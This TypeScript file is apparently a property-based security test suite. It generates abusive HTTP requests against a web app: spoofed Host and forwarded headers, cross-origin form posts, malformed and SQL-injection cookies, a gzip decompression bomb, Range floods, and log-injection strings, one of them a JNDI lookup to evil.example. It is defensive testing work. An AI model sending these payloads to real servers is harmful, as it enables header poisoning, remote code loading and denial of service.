import { gzipSync } from "node:zlib";
import fc from "fast-check";
import type { ShotClass, Targets } from "#tests/abuse/abuse-class.ts";
import { BELIEVED_MARK } from "#tests/abuse/payloads.ts";
import type { AnyShot } from "#tests/abuse/shot.ts";

const pick = <T>(list: readonly T[]) => fc.constantFrom(...list);
type Headers = [string, string][];

/** A page asked for, or a form sent as it stands on its page, with other headers. */
const asked = (targets: Targets, headers: fc.Arbitrary<Headers>): fc.Arbitrary<AnyShot> =>
  fc.tuple(pick(targets.askers), pick(targets.pages), headers).map(([as, target, more]) => ({ as, method: "GET", target, headers: more }));
const sent = (targets: Targets, headers: fc.Arbitrary<Headers>): fc.Arbitrary<AnyShot> =>
  fc
    .tuple(pick(targets.forms), headers)
    .map(([form, more]) => ({ as: form.as, method: "POST", target: "{form}", body: { form: form.name, edits: [] }, headers: more }));
const either = (targets: Targets, headers: fc.Arbitrary<Headers>) => fc.oneof(asked(targets, headers), sent(targets, headers));
const one = (name: string, values: readonly string[]): fc.Arbitrary<Headers> => pick(values).map((value): Headers => [[name, value]]);

const HOSTS = [
  ...[
    "evil.example",
    "{host}.evil.example",
    "{host}:80:80",
    "{host}, evil.example",
    "127.0.0.1",
    "localhost",
    "[::1]",
    "{host}/",
    "{host}@evil.example",
  ],
  ...["evil.example@{host}", "", " ", "{host}.", "HTTP://{host}", "xn--evil", "*", "%00", "a".repeat(5_000)],
];
const BELIEVED = [
  ...["X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Port", "X-Forwarded-Server", "X-Forwarded-Prefix", "Forwarded", "X-Real-IP"],
  ...["True-Client-IP", "CF-Connecting-IP", "X-Host", "X-Original-Host", "Via", "X-Client-IP", "X-Cluster-Client-IP", "Fastly-Client-IP"],
];
const ELSEWHERE = [
  "X-Original-URL",
  "X-Rewrite-URL",
  "X-HTTP-Method-Override",
  "X-Method-Override",
  "X-HTTP-Method",
  "X-React-Router-Request",
  "X-Remix-Response",
  "X-Original-Method",
];
const ORIGINS = [
  ...[
    "https://evil.example",
    "null",
    "http://evil.example",
    "https://{host}",
    "http://127.0.0.1",
    "http://127.0.0.1:1",
    "http://{host}.evil.example",
    "http://evil.{host}",
  ],
  ...[
    "http://{host}/",
    "http://{host}, http://evil.example",
    "{host}",
    "file://",
    "http://{host}@evil.example",
    " ",
    "http://{host}:80",
    "chrome-extension://a",
    "HTTP://{host}",
  ],
];
const SITES = [
  "cross-site",
  "same-site",
  "none",
  "same-origin, cross-site",
  "cross-site, same-origin",
  "SAME-ORIGIN",
  "Same-Origin",
  "same-origin;a",
  "?1",
  "same origin",
  " ",
];
const COOKIES = [
  ...[
    "s=",
    "s=a",
    "s=0000000000000000000000000000000000000000",
    "s={session of client}x",
    "s=x{session of client}",
    "S={session of client}",
  ],
  ...[
    "__Host-s={session of client}",
    's="{session of client}"',
    "s={session of client},other",
    "s=%7B%7D",
    "s=' or 1=1 --",
    "s=__proto__",
    "__proto__=1; constructor=2",
    ";;;",
    "=",
    "=a",
    "s",
    "s=\u00ff\u0080",
    "s=a\tb",
  ],
  ...[
    `s=${"a".repeat(4_000)}`,
    `s=${"a".repeat(17_000)}`,
    Array.from({ length: 100 }, (_, n) => `c${n}=1`).join("; "),
    Array(300).fill("s=a").join("; "),
  ],
];
const TYPES = [
  ...[
    "",
    "text/plain",
    "application/json",
    "application/x-www-form-urlencoded; charset=utf-7",
    "application/x-www-form-urlencoded; charset=utf-16",
    "multipart/form-data",
    "multipart/form-data; boundary=",
  ],
  ...[
    "multipart/form-data; boundary=a; boundary=b",
    "multipart/mixed; boundary=a",
    "application/x-www-form-urlencoded, text/plain",
    "application/graphql",
    "text/xml",
    "application/x-www-form-urlencodedx",
    "APPLICATION/X-WWW-FORM-URLENCODED",
  ],
  ...["application/csp-report", "application/reports+json", 'multipart/form-data; boundary="a\r\nb"', "a".repeat(3_000)],
];
const LANGUAGES = [
  "*",
  "de-CH-1996,xx;q=1.5",
  "en;q=0",
  "zz",
  "en-GB-oxendict",
  "../../etc",
  "en\u0000",
  "__proto__",
  "constructor",
  "C",
  "x".repeat(9_000),
  Array(2_000).fill("a-b").join(","),
  "en;q=a",
  ";;;,,,",
  "tlh-Latn-u-nu-arab-ca-buddhist",
];
const METHODS = [
  "TRACE",
  "CONNECT",
  "PROPFIND",
  "OPTIONS",
  "PUT",
  "PATCH",
  "DELETE",
  "HEAD",
  "PURGE",
  "M-SEARCH",
  "QUERY",
  "SEARCH",
  "LINK",
  "MKCOL",
];

const BOMB = gzipSync(Buffer.alloc(10_000_000)).toString("base64");

/** SECURITY.md section 4, classes 55 to 60 and 65 to 71: what is written in front of a request. */
export const HEADER_CLASSES: readonly ShotClass[] = [
  {
    id: 55,
    name: "other hosts",
    means: "nothing",
    shots: (t) =>
      either(
        t,
        fc.oneof(
          one(
            "Host",
            HOSTS.filter((host) => host !== ""),
          ),
          fc.constant<Headers>([["Host", ""]]),
          pick(HOSTS).map(
            (host): Headers => [
              ["Host", "{host}"],
              ["Host", host === "" ? "a" : host],
            ],
          ),
        ),
      ),
  },
  {
    id: 56,
    name: "headers that claim who asks and where",
    weight: 20,
    means: "nothing",
    shots: (t) =>
      asked(
        t,
        fc.array(
          fc.tuple(
            pick([...BELIEVED, "X-Forwarded-For"]),
            pick([
              `${BELIEVED_MARK}.example`,
              `for=1;host=${BELIEVED_MARK}.example`,
              "127.0.0.1",
              "::1",
              "https",
              `1.2.3.4, ${BELIEVED_MARK}`,
              "[",
              "0x7f.1",
              "unknown",
            ]),
          ),
          { minLength: 1, maxLength: 5 },
        ),
      ),
  },
  {
    id: 57,
    name: "headers that claim what was asked",
    means: "nothing",
    shots: (t) =>
      asked(
        t,
        fc.array(fc.tuple(pick(ELSEWHERE), pick(["/admin", `/${BELIEVED_MARK}`, "DELETE", "POST", "yes", "//evil.example"])), {
          minLength: 1,
          maxLength: 4,
        }),
      ),
  },
  {
    id: 58,
    name: "forms from elsewhere, by their origin",
    weight: 30,
    means: "nothing",
    shots: (t) =>
      fc
        .tuple(pick(t.forms.filter((form) => !form.route.endsWith("/stop"))), one("Origin", ORIGINS), fc.boolean())
        .map(([form, origin, alone]) => ({
          as: form.as,
          method: "POST",
          target: "{form}",
          body: { form: form.name, edits: [] },
          headers: alone ? [...origin, ["Sec-Fetch-Site", ""]] : origin,
        })),
  },
  {
    id: 59,
    name: "forms from elsewhere, as the browser says",
    weight: 20,
    means: "nothing",
    shots: (t) =>
      fc.tuple(pick(t.forms.filter((form) => !form.route.endsWith("/stop"))), one("Sec-Fetch-Site", SITES)).map(([form, headers]) => ({
        as: form.as,
        method: "POST",
        target: "{form}",
        body: { form: form.name, edits: [] },
        headers,
      })),
  },
  {
    id: 60,
    name: "cookies",
    weight: 20,
    means: "nothing",
    shots: (t) =>
      fc
        .tuple(
          pick(t.pages),
          fc.oneof(
            pick(COOKIES),
            fc.nat({ max: 39 }).map((at) => `s={session of client/${at}}`),
          ),
        )
        .map(([target, cookie]) => ({
          as: "anonymous",
          method: "GET",
          target,
          headers: [["Cookie", cookie]],
        })),
  },
  {
    id: 65,
    name: "content types",
    weight: 20,
    shots: (t) =>
      sent(
        t,
        fc.oneof(
          one(
            "Content-Type",
            TYPES.filter((type) => !/[\r\n]/.test(type)),
          ),
          pick(TYPES.slice(1, 5)).map(
            (type): Headers => [
              ["Content-Type", "application/x-www-form-urlencoded"],
              ["Content-Type", type],
            ],
          ),
        ),
      ),
  },
  {
    id: 66,
    name: "compressed bodies",
    means: "nothing",
    shots: (t) =>
      fc.tuple(pick(t.forms), pick(["gzip", "br", "deflate", "gzip, gzip", "identity", "zstd", "x"])).map(([form, encoding]) => ({
        as: form.as,
        method: "POST",
        target: "{form}",
        body: { base64: BOMB.slice(0, 12_000) },
        headers: [["Content-Encoding", encoding]],
      })),
  },
  {
    id: 67,
    name: "floods of ranges",
    means: "nothing",
    shots: (t) =>
      fc
        .tuple(
          pick(["{/photos/:id/:file}", "{/clinics/:slug/card.png}", "{/clinics}", "/icon.svg", "/manifest.webmanifest"]),
          pick([
            "bytes=0-0",
            `bytes=${"0-,".repeat(1_300)}0-`,
            "bytes=-1",
            "bytes=9-1",
            "bytes=0-99999999999999999999",
            "bytes=a-b",
            "items=0-1",
            `bytes=${Array.from({ length: 900 }, (_, n) => `${n}-${n}`).join(",")}`,
          ]),
          pick(t.askers),
        )
        .map(([target, range, as]) => ({
          as,
          method: "GET",
          target,
          headers: [
            ["Range", range],
            ["If-Range", '"x"'],
          ],
        })),
  },
  {
    id: 68,
    name: "lists of versions",
    means: "nothing",
    shots: (t) =>
      asked(
        t,
        one("If-None-Match", [
          "*",
          '"a"',
          "W/",
          '"',
          `${'W/"a",'.repeat(1_500)}"b"`,
          "a".repeat(10_000),
          'W/"\u00ff"',
          `"${"\\".repeat(3_000)}"`,
        ]),
      ),
  },
  {
    id: 69,
    name: "languages",
    means: "nothing",
    shots: (t) =>
      asked(
        t,
        one(
          "Accept-Language",
          LANGUAGES.filter((language) => !language.includes("\0")),
        ),
      ),
  },
  {
    id: 70,
    name: "lines for the log",
    means: "nothing",
    shots: (t) =>
      asked(
        t,
        fc
          .tuple(
            pick(["User-Agent", "Referer", "X-Request-Id", "X-Forwarded-For"]),
            pick([
              'x\\n{"level":60}',
              '"},{"level":60,"msg":"x"}',
              "%0a%7b%22level%22:60%7d",
              "\u001b[31mred",
              `\${jndi:ldap://evil.example/a}`,
              "\u0085x",
              "a".repeat(8_000),
            ]),
          )
          .map((pair): Headers => [pair]),
      ),
  },
  {
    id: 71,
    name: "other methods",
    weight: 20,
    means: "nothing",
    shots: (t) => fc.tuple(pick(t.askers), pick(METHODS), pick(t.pages)).map(([as, method, target]) => ({ as, method, target })),
  },
];
